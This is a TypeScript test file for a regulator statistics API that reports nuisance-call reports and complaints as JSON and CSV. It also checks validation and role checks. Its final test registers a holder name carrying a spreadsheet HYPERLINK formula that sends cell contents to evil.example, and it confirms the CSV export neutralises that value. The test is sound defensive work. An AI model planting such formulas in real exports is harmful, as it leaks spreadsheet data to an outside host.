// Statistics for regulators: JSON for the console's charts and the same rows as CSV.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startTestServer } from '../helpers/server.js';
import type { TestServer } from '../helpers/server.js';

let t: TestServer;
const DAY = 86_400_000;
const today = new Date().toISOString().slice(0, 10);
const noon = (daysAgo: number) => new Date(Date.parse(`${today}T12:00:00Z`) - daysAgo * DAY);
const dayOf = (daysAgo: number) => noon(daysAgo).toISOString().slice(0, 10);

before(async () => {
  t = await startTestServer();
  const report = (caller: string, reporter: string, category: string, daysAgo: number) =>
    t.call('POST', '/v1/reports', { role: 'app', body: { caller, reporter, category, occurredAt: new Date(Math.min(Date.now(), noon(daysAgo).getTime())).toISOString() } });
  for (let i = 0; i < 3; i++) assert.equal((await report('+8613800000001', `r${i}`, 'fraud', 1)).status, 201);
  assert.equal((await report('+8613800000002', 'r9', 'robocall', 2)).status, 201);
  assert.equal((await t.call('POST', '/v1/holders', { role: 'carrier', body: [{ holder: 'Acme', identityLevel: 'documented', use: 'notifications', prefix: '+861380000' }] })).status, 201);
  for (const [callee, category] of [['+8613911110001', 'spam-ad'], ['+8613911110002', 'harassment']]) {
    const c = await t.call('POST', '/v1/complaints', { role: 'app', body: { caller: '+8613800000002', callee, occurredAt: new Date(Date.now() - 3_600_000).toISOString(), consented: false, category } });
    assert.equal(c.status, 201, JSON.stringify(c.body));
  }
});
after(async () => {
  await t?.close();
});

describe('regulator statistics', () => {
  it('reports by day and category, ready for a chart', async () => {
    const res = await t.call('GET', `/v1/stats/reports?from=${dayOf(7)}&to=${today}`, { role: 'regulator' });
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.deepEqual(res.body.days, [
      { day: dayOf(2), category: 'robocall', count: 1 },
      { day: dayOf(1), category: 'fraud', count: 3 },
    ]);
  });
  it('the same rows as CSV', async () => {
    const res = await t.call('GET', `/v1/stats/reports?from=${dayOf(7)}&to=${today}&format=csv`, { role: 'admin' });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
    assert.equal(res.text, `day,category,count\n${dayOf(2)},robocall,1\n${dayOf(1)},fraud,3\n`);
  });
  it('complaints by day, per carrier and per number holder, and the violations found', async () => {
    const res = await t.call('GET', '/v1/stats/complaints', { role: 'regulator' });
    assert.equal(res.status, 200);
    assert.equal(res.body.days.reduce((a: number, d: any) => a + d.count, 0), 2);
    assert.deepEqual(res.body.carriers, [{ carrier: 'Test carrier', count: 2, violations: 2, open: 2 }]);
    assert.deepEqual(res.body.holders, [{ holder: 'Acme', count: 2, violations: 2, confirmed: 0 }]);
    const v = await t.call('GET', '/v1/stats/violations', { role: 'regulator' });
    assert.deepEqual(v.body.totals, { NO_CONSENT: 2, USE_MISMATCH: 2 });
    const csv = await t.call('GET', '/v1/stats/complaints/holders?format=csv', { role: 'regulator' });
    assert.equal(csv.text, 'holder,count,violations,confirmed\nAcme,2,2,0\n');
    const carriers = await t.call('GET', '/v1/stats/complaints/carriers', { role: 'regulator' });
    assert.equal(carriers.body.carriers[0].carrier, 'Test carrier');
  });
  it('top reported identifiers combine reports and complaints', async () => {
    const res = await t.call('GET', '/v1/stats/top-identifiers?limit=5', { role: 'regulator' });
    assert.deepEqual(res.body.identifiers.map((x: any) => [x.identifier, x.reports, x.complaints, x.topCategory]), [
      ['+8613800000001', 3, 0, 'fraud'],
      ['+8613800000002', 1, 2, 'robocall'],
    ]);
  });
  it('bad ranges name the parameter; other roles are refused', async () => {
    for (const [q, field] of [['from=2026-13-01', 'from'], ['from=2026-11-02&to=2026-11-01', 'from'], ['limit=0', 'limit'], ['format=xml', 'format']]) {
      const res = await t.call('GET', `/v1/stats/top-identifiers?${q}`, { role: 'regulator' });
      assert.equal(res.status, 400, q);
      assert.equal(res.body.code, 'REQUEST_INVALID_QUERY', q);
      assert.equal(res.body.field, field, q);
    }
    for (const role of ['carrier', 'app', 'business', 'police'] as const) assert.equal((await t.call('GET', '/v1/stats/reports', { role })).status, 403);
  });
  it('a holder name that looks like a formula is neutralised in the CSV (OWASP CSV injection)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const reg = await t.call('POST', '/v1/holders', { role: 'carrier', body: [{ holder: evil, identityLevel: 'documented', use: 'notifications', number: '+8613700000009' }] });
    assert.equal(reg.status, 201, JSON.stringify(reg.body));
    const c = await t.call('POST', '/v1/complaints', { role: 'app', body: { caller: '+8613700000009', callee: '+8613911110003', occurredAt: new Date(Date.now() - 3_600_000).toISOString(), consented: false, category: 'spam-ad' } });
    assert.equal(c.status, 201, JSON.stringify(c.body));
    const csv = await t.call('GET', '/v1/stats/complaints/holders?format=csv', { role: 'regulator' });
    assert.equal(csv.status, 200);
    const line = csv.text.split('\n').find((l: string) => l.includes('HYPERLINK'));
    assert.equal(line, `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,1,0`);
  });
});
